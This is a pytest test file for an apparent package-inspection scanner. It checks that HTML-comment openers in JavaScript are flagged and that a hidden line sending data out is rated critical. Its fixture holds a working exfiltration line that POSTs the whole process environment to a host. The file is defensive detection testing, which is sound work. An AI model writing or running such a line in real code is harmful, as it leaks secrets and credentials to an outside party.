import pytest

from approvals.inspection.finding import Severity
from tests.approvals.inspection.findings.packages import found_in

TAKES = "fetch(a, { method: 'POST', body: JSON.stringify(process.env) });\n"


@pytest.mark.parametrize("lines", [1, 3_000])
def test_a_comment_that_is_none_hides_nothing(lines: int) -> None:
    code = f"{'exports.a = 1;' * 5}\n" * lines + f"exports.b = 1\n<!-- /*\n{TAKES}// */\n"
    findings = {one.rule: one for one in found_in(code)}
    assert findings["exfiltration"].severity is Severity.CRITICAL
    assert findings["exfiltration"].line == lines + 3
    assert findings["html-comment"].severity is Severity.HIGH
    assert findings["html-comment"].line == lines + 2


def test_one_at_the_begin_of_a_statement_is_named() -> None:
    assert [one.line for one in found_in("a();\n<!-- b\nc();\n", rule="html-comment")] == [2]


@pytest.mark.parametrize(
    "code",
    [
        "a('<!-- x');",
        "b(/^<!--/);",
        "c(`<!--`);",
        "d(); // <!--",
        "/* <!-- */",
        "e(<a>{'<!--'}</a>)",
    ],
)
def test_one_in_a_text_is_not(code: str) -> None:
    assert found_in(f"{code}\n", rule="html-comment") == []
